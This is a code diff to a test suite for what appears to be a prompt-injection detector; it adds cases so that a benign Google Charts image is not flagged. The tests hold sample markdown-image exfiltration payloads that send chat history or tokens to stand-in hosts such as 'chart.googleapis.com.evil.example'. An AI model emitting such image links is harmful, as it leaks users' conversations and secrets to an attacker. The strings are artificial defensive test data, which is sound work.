@@ -249,6 +249,11 @@ describe('injection indicators', () => {
     expect(findMarkdownExfiltration(`![a](https://circleci.com.evil.example/gh/a.svg?circle-token=${hex40})`)).toHaveLength(1);
     expect(findMarkdownExfiltration(`![a](https://img.shields.io/endpoint.svg?url=${'A'.repeat(40)})`)).toHaveLength(1);
     expect(findMarkdownExfiltration('![a](https://github.com/acme/badge.svg?q={chat_history})')).toHaveLength(1);
+    // A chart drawn from its query (ajv's README: a benchmark's bars and labels) is a picture, not data going out.
+    const chart = 'https://chart.googleapis.com/chart?chxt=x,y&cht=bhs&chs=600x400&chxl=-1:|alpha-lib|beta-validator|gamma/schema&chd=t:100,64.5,12.5';
+    expect(findMarkdownExfiltration(`[![speed](${chart})](https://example.com/bench)`)).toEqual([]);
+    expect(findMarkdownExfiltration('![c](https://chart.googleapis.com/chart?chd={chat_history})')).toHaveLength(1);
+    expect(findMarkdownExfiltration(`![c](https://chart.googleapis.com.evil.example/chart?chl=${'A'.repeat(40)})`)).toHaveLength(1);
   });
 
   it('finds base64 that decodes to instructions, not base64 of images or random bytes', () => {
